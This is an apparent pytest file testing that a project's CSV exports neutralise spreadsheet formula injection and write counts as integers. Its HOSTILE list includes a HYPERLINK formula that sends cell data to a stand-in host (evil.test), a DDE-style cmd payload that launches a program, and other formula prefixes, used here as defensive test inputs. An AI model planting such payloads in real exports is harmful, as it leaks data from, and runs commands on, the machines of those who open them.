"""CSV exports are safe to open in a spreadsheet, and counts are written as integers (issue 12, item 5)."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from audit import imports, reviews
from audit.export import csv_text, export_decisions
from binaudit.csvsafe import spreadsheet_safe
from binaudit.workspace import Workspace
from modeling.counts import CountClasses
from modeling.predictor import PathResult, write_predictions_csv
from tests.modeling_fixtures import jpeg_bytes

HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["ana", "B07 tea", "", " =not a formula", "a=b", -1, 4, 0.5, None])
def test_other_cells_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_decisions_export_neutralises_reviewers_and_notes_and_writes_integer_recounts(tmp_path):
    ws = Workspace(tmp_path / "ws", f"sqlite:///{tmp_path / 'ws' / 'binaudit.db'}")
    engine = ws.open()
    for i, text in enumerate(HOSTILE):
        bin_id = f"0060{i}"
        imports.import_upload(engine, ws, f"{bin_id}.jpg", jpeg_bytes(), actor="t", expected_count=3)
        version = reviews.bin_state(engine, bin_id).row_version
        confirm = i % 2 == 0
        reviews.decide(engine, reviews.Decision(bin_id, reviews.CONFIRM if confirm else reviews.UNSURE,
                                                text.strip() or "x", version, 4 if confirm else None, note=text))

    assert export_decisions(engine, tmp_path / "d.csv") == len(HOSTILE)
    with (tmp_path / "d.csv").open(encoding="utf-8", newline="") as fh:
        written = fh.read()
    for source in (written, csv_text(reviews.decisions_frame(engine))):
        rows = list(csv.DictReader(io.StringIO(source, newline="")))
        assert len(rows) == len(HOSTILE)
        for row in rows:
            for column in ("reviewer", "note"):  # nothing a spreadsheet would evaluate
                assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), row
            assert row["note"].startswith("'") and row["note"][1:] in HOSTILE
            assert row["recounted_count"] in ("4", ""), row  # an integer, never "4.0"
            assert row["expected_count"] == "3" and row["model_version_id"] == ""


def test_csv_text_keeps_numbers_numbers():
    frame = pd.DataFrame({"bin_id": ["00001", "00002"], "recounted_count": [4.0, np.nan],
                          "mismatch_probability": [0.25, 1.0], "delta": [-1, 2]})
    assert csv_text(frame).split("\r\n") == ["bin_id,recounted_count,mismatch_probability,delta",
                                            "00001,4,0.25,-1", "00002,,1.0,2", ""]


def test_predict_csv_neutralises_file_names(tmp_path):
    results = [PathResult("=cmd.jpg", None, "not an image"), PathResult("photos/-1.jpg", np.array([0.9, 0.1]), None)]
    write_predictions_csv(results, tmp_path / "p.csv", CountClasses(max_count=1))
    rows = list(csv.DictReader((tmp_path / "p.csv").open(encoding="utf-8")))
    assert (rows[0]["path"], rows[0]["bin_id"]) == ("'=cmd.jpg", "'=cmd")
    assert (rows[1]["path"], rows[1]["bin_id"], rows[1]["predicted_count"]) == ("photos/-1.jpg", "'-1", "0")
